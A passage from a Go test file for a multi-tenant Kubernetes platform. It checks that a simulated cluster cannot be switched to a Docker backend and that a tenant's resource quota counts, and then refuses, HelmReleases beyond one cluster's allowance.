				if err := tb.create(t, builders[obj.GetNamespace()], obj); err != nil {
					t.Errorf("%s %s/%s refused: %v", obj.GetKind(), obj.GetNamespace(), obj.GetName(), err)
				}
			}
			if len(kinds) < 5 {
				t.Errorf("the cluster chart rendered only %v", kinds)
			}
		})
	}

	// Once created, the simulated cluster cannot be turned into Docker containers either.
	dev := obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}}}})()
	dev.SetNamespace("team-sim")
	if err := tb.as(t, builderSim).Create(t.Context(), dev); err != nil {
		t.Fatal(err)
	}
	_ = unstructured.SetNestedMap(dev.Object, map[string]any{}, "spec", "backend", "docker")
	if err := tb.as(t, builderSim).Update(t.Context(), dev); err == nil || !strings.Contains(err.Error(), "spec.backend.docker: not a field") {
		t.Errorf("a simulated cluster updated to Docker containers: %v", err)
	}
}

// Every object a tenant's commit makes the platform make is counted: the quota of each kind is
// what its clusters' limit makes of what one cluster renders (workload-clusters.perCluster), and
// past it the tenant's own account is refused, with the reason in the answer its Kustomization
// shows. team-b may have one cluster: its release and the definitions' release.
func TestEveryObjectOfATenantsCommitIsCounted(t *testing.T) {
	tb := renderTenantTestbed(t)
	var hard corev1.ResourceList
	for _, o := range tb.installed {
		if o.GetKind() == "ResourceQuota" && o.GetNamespace() == "team-b" {
			var q corev1.ResourceQuota
			if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, &q); err != nil {
				t.Fatal(err)
			}
			hard = q.Spec.Hard
		}
	}
	// What one cluster makes: its release, the units its release renders, the unit graph.
	made := map[string]int64{"helmreleases.helm.toolkit.fluxcd.io": 1}
	for _, u := range tb.units {
		made[strings.ToLower(u.GetKind())+"s."+u.GroupVersionKind().Group]++
	}
	made["kustomizations.kustomize.toolkit.fluxcd.io"]++ // the tenant's directory
	// And room for the platform's applications placed on it (default_limits.applications: 10),
	// a Kustomization or a HelmRelease each.
	const applications = 10
	for kind, n := range made {
		q, ok := hard[corev1.ResourceName("count/"+kind)]
		if !ok {
			t.Errorf("team-b's quota does not count %s", kind)
			continue
		}
		if q.Value() != n+applications {
			t.Errorf("team-b's quota of %s is %d; one cluster makes %d, and %d applications may be placed on it (workload-clusters.perCluster)", kind, q.Value(), n, applications)
		}
	}
	for _, kind := range []corev1.ResourceName{"count/configmaps", "count/secrets", "count/clusters.cluster.x-k8s.io", "count/machines.cluster.x-k8s.io"} {
		if _, ok := hard[kind]; !ok {
			t.Errorf("team-b's quota does not count %s", kind)
		}
	}

	tb.start(t)
	release := func(name string) *unstructured.Unstructured {
		o := tb.release.DeepCopy()
		o.SetNamespace("team-b")
		rename(name)(o.Object)
		// As team-b's Kustomization applies it: in its shard.
		labels := o.GetLabels()
		labels[shardLabel] = "team-b"
		o.SetLabels(labels)
		return o
	}
	quota := hard[corev1.ResourceName("count/helmreleases.helm.toolkit.fluxcd.io")]
	for i := range quota.Value() {
		if err := tb.as(t, tenantB).Create(t.Context(), release(fmt.Sprintf("b-%d", i))); err != nil {
			t.Fatalf("release %d within the quota of %d: %v", i+1, quota.Value(), err)
		}
	}
	err := tb.as(t, tenantB).Create(t.Context(), release("b-over"))
	if err == nil || !strings.Contains(err.Error(), "exceeded quota") || !strings.Contains(err.Error(), "count/helmreleases.helm.toolkit.fluxcd.io") {
		t.Errorf("a release over the quota: %v", err)
	}
}
